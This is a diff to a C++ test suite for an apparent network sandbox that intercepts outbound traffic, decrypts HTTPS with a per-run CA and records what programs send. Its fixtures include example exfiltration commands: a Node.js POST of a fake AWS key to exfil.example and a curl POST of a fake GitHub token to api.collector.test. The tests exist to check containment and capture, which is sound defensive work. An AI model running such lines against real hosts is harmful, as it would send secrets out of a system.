@@ -8,6 +8,7 @@
 #include <net/if.h>
 #include <netinet/in.h>
 #include <netinet/ip.h>
+#include <map>
 #include <set>
 #include <sys/socket.h>
 #include <unistd.h>
@@ -94,25 +95,89 @@ TEST_F(SandboxTest, RawTcpToAnyAddressIsAcceptedAndItsFirstBytesRecorded) {
     EXPECT_EQ(tcp[0].data, "BEACON id=42\n");
 }
 
-TEST_F(SandboxTest, TlsServerNameIsRecordedEvenThoughTheHandshakeFails) {
-    const auto r = run({"node", "-e", "require('https').get('https://secure.example.test/api',()=>{})"
-                                      ".on('error',e=>console.log('tls-error='+e.code))"});
+TEST_F(SandboxTest, HttpsIsDecryptedWithTheRunsCaAndRecordedLikeHttp) {
+    // Both clients verify the certificate as they always do (no -k, no rejectUnauthorized:false):
+    // the run's CA is in the sandbox's system bundle and NODE_EXTRA_CA_CERTS.
+    const std::string js =
+        "const q=require('https').request('https://exfil.example/c?d=c2VjcmV0',{method:'POST',"
+        "headers:{'Content-Type':'text/plain'}},s=>{let b='';s.on('data',d=>b+=d);"
+        "s.on('end',()=>console.log('node-status='+s.statusCode+' authorized='+s.socket.authorized))});"
+        "q.on('error',e=>console.log('node-error='+e.code));q.end('AKIA-stolen-key')";
+    const auto r = run({"sh", "-c", "node -e \"" + js + "\"; curl -sS -o /dev/null -w 'curl-status=%{http_code}\\n' "
+                                    "--data-binary ghp_from_curl https://api.collector.test/upload/1"});
+    EXPECT_NE(r.stdoutTail.find("node-status=200 authorized=true"), std::string::npos) << describe(r);
+    EXPECT_NE(r.stdoutTail.find("curl-status=200"), std::string::npos) << describe(r);
+    const auto http = ofKind(r, Kind::Http);
+    ASSERT_EQ(http.size(), 2u) << describe(r);
+    const auto& node = http[0].text(1) == "exfil.example" ? http[0] : http[1];
+    const auto& curl = http[0].text(1) == "exfil.example" ? http[1] : http[0];
+    EXPECT_EQ(node.text(0), "POST");
+    EXPECT_EQ(node.text(1), "exfil.example");
+    EXPECT_EQ(node.text(2), "/c?d=c2VjcmV0");
+    EXPECT_NE(node.text(3).find("Content-Type: text/plain"), std::string::npos) << node.text(3);
+    EXPECT_EQ(node.text(4), "https");
+    EXPECT_EQ(node.data, "AKIA-stolen-key");
+    EXPECT_EQ(node.dstPort, 443);
+    EXPECT_EQ(curl.text(0), "POST");
+    EXPECT_EQ(curl.text(1), "api.collector.test");
+    EXPECT_EQ(curl.text(2), "/upload/1");
+    EXPECT_EQ(curl.text(4), "https");
+    EXPECT_EQ(curl.data, "ghp_from_curl");
+    // The server names are on record too, from the ClientHello.
+    std::set<std::string> names;
+    for (const auto& e : ofKind(r, Kind::TlsSni))
+        names.insert(e.text(0));
+    EXPECT_TRUE(names.count("exfil.example") && names.count("api.collector.test")) << describe(r);
+}
+
+TEST_F(SandboxTest, AClientPinningAnotherCaRefusesAndOnlyItsServerNameIsRecorded) {
+    // Trusting only one public root, as a pinned client does: our certificate must fail.
+    const auto r = run({"node", "-e", "const fs=require('fs');require('https').get('https://secure.example.test/api',"
+                                      "{ca:fs.readFileSync('/usr/share/ca-certificates/mozilla/ISRG_Root_X1.crt')},()=>"
+                                      "console.log('accepted')).on('error',e=>console.log('tls-error='+e.code))"});
     EXPECT_NE(r.stdoutTail.find("tls-error="), std::string::npos) << describe(r);
+    EXPECT_EQ(r.stdoutTail.find("accepted"), std::string::npos) << describe(r);
     const auto tls = ofKind(r, Kind::TlsSni);
     ASSERT_EQ(tls.size(), 1u) << describe(r);
     EXPECT_EQ(tls[0].text(0), "secure.example.test");
     EXPECT_EQ(tls[0].dstPort, 443);
+    EXPECT_TRUE(ofKind(r, Kind::Http).empty()) << describe(r);
 }
 
-TEST_F(SandboxTest, ConnectionsToUnlistenedPortsAndDatagramsAreRecorded) {
-    const auto r = run({"node", "-e", "require('net').connect(23456,'198.51.100.9').on('error',e=>console.log('tcp='+e.code));"
+TEST_F(SandboxTest, EachRunHasItsOwnCaAndTheHostsTrustIsUntouched) {
+    const std::string hostBundle = readFile("/etc/ssl/certs/ca-certificates.crt");
+    auto lastCert = [this] {
+        const auto r = run({"sh", "-c", "tail -n 12 /etc/ssl/certs/ca-certificates.crt"});
+        return r.stdoutTail;
+    };
+    const std::string first = lastCert(), second = lastCert();
+    EXPECT_NE(first.find("END CERTIFICATE"), std::string::npos) << first;
+    EXPECT_NE(first, second) << "two runs trusted the same CA";
+    EXPECT_EQ(hostBundle.find(first), std::string::npos) << "the run's CA must not be in the host's bundle";
+    EXPECT_EQ(readFile("/etc/ssl/certs/ca-certificates.crt"), hostBundle);
+}
+
+TEST_F(SandboxTest, TcpToEveryPortIsAcceptedAndDatagramsAreRecorded) {
+    // Ports nobody would list: each connection completes and its first bytes are recorded; one
+    // that says nothing is recorded too.
+    const auto r = run({"node", "-e", "const net=require('net');for(const p of [23456,61999,2]){"
+                                      "const s=net.connect(p,'198.51.100.9',()=>{console.log('connected='+p);"
+                                      "s.end('hello-'+p)});s.on('error',e=>console.log('tcp='+e.code))}"
+                                      "const q=net.connect(40001,'198.51.100.8',()=>q.end());q.on('error',()=>{});"
                                       "const u=require('dgram').createSocket('udp4');"
                                       "u.send('udp-beacon',5353,'198.51.100.10',()=>u.close())"});
-    EXPECT_NE(r.stdoutTail.find("tcp=ECONNREFUSED"), std::string::npos) << describe(r);
-    const auto syn = ofKind(r, Kind::TcpSyn);
-    ASSERT_EQ(syn.size(), 1u) << describe(r);
-    EXPECT_EQ(syn[0].dstIp, "198.51.100.9");
-    EXPECT_EQ(syn[0].dstPort, 23456);
+    std::map<uint16_t, std::string> seen;
+    for (const auto& e : ofKind(r, Kind::Tcp))
+        seen[e.dstPort] = e.data;
+    for (uint16_t port : {23456, 61999, 2}) {
+        EXPECT_NE(r.stdoutTail.find("connected=" + std::to_string(port)), std::string::npos) << describe(r);
+        EXPECT_EQ(seen[port], "hello-" + std::to_string(port)) << describe(r);
+    }
+    ASSERT_TRUE(seen.count(40001)) << describe(r);
+    EXPECT_EQ(seen[40001], "");
+    for (const auto& e : ofKind(r, Kind::Tcp))
+        EXPECT_TRUE(e.dstIp == "198.51.100.9" || e.dstIp == "198.51.100.8") << describe(r);
+    EXPECT_TRUE(ofKind(r, Kind::TcpSyn).empty()) << "every port answers: no attempt is left at a SYN";
     const auto udp = ofKind(r, Kind::Udp);
     ASSERT_EQ(udp.size(), 1u) << describe(r);
     EXPECT_EQ(udp[0].dstPort, 5353);
@@ -188,8 +253,7 @@ TEST_F(SandboxTest, NothingLeavesTheHost) {
     EXPECT_TRUE(sawControl) << "the host capture did not see the test's own packet: the check proves nothing";
     EXPECT_EQ(leaked, 0u) << "packets of the sandbox's traffic appeared on the host's interfaces";
     // The traffic happened, and went to the honeypot: every attempt is on record.
-    EXPECT_FALSE(ofKind(r, Kind::TcpSyn).empty()) << describe(r);
-    EXPECT_FALSE(ofKind(r, Kind::Tcp).empty()) << describe(r);
+    EXPECT_GE(ofKind(r, Kind::Tcp).size(), 2u) << describe(r);
     EXPECT_FALSE(ofKind(r, Kind::Udp).empty()) << describe(r);
     EXPECT_GE(ofKind(r, Kind::Dns).size(), 2u) << describe(r);
     // Raw IP needs privileges the command does not have.
